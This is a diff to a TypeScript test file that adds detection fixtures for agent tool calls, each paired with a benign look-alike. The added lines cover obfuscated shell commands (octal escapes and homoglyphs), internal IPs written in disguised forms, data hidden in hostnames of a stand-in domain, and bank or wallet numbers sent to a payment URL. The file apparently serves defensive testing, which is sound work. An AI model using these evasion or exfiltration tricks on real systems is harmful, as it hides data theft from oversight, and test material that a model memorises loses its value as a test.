@@ -53,6 +53,30 @@ const linked = (prompt: string, named: string, url: string): Scenario =>
 const INNER = 'http://192.168.7.20:8080/admin/export';
 
 export const EXECUTION: Traces = {
+  'defense-evasion/disguised-command.octal': () => runs("$'\\143\\141\\164' /srv/plan.txt"),
+  'defense-evasion/disguised-command.letters': () => runs('c\u0430t /srv/plan.txt'),
+  'defense-evasion/disguised-command.ordinary': () =>
+    runs("IFS_NAME=a; printf '%s\\n' 'a b' | sort -u > /tmp/{a,b}.txt && rm -f /tmp/c"),
+  'defense-evasion/disguised-address.number': () => fetches('http://2886729729/status', 'denied'),
+  'defense-evasion/disguised-address.mapped': () =>
+    fetches('https://[::ffff:192.168.7.1]:8080/', 'denied'),
+  'defense-evasion/disguised-address.ordinary': () =>
+    fetches('http://192.168.7.1/20261122?id=2886729729'),
+  'discovery/internal-address.own': () => fetches('http://localhost:8080/health'),
+  'discovery/internal-address.outside': () => fetches('https://10.example.org/localhost'),
+  'exfiltration/data-in-hostname.letters': () =>
+    fetches('https://MFRGGZDFMZTWQ2LK.in.example.net/a'),
+  'exfiltration/data-in-hostname.parts': () =>
+    fetches('https://6d6f6e646179.6576656e696e67.in.example.net/'),
+  'exfiltration/data-in-hostname.ordinary': () =>
+    fetches('https://docs.eu-west-1.status.example.net/v2/a3f9c1d2e4b5a6978899aabbccddeeff'),
+  'exfiltration/account-number-to-egress.iban': () =>
+    fetches('https://pay.example.net/to?iban=DE89370400440532013000'),
+  'exfiltration/account-number-to-egress.wallet': () =>
+    fetches('https://pay.example.net/to?w=0x52908400098527886E0F7030069857D2E4169EE7'),
+  'exfiltration/account-number-to-egress.order': () =>
+    fetches('https://shop.example.net/order?no=1234567890'),
+
   'execution/server-asks-user.form': () => asked('elicitation.request'),
   'execution/server-asks-user.model': () => asked('sampling.request'),
   'execution/server-asks-unprompted.alone': () =>
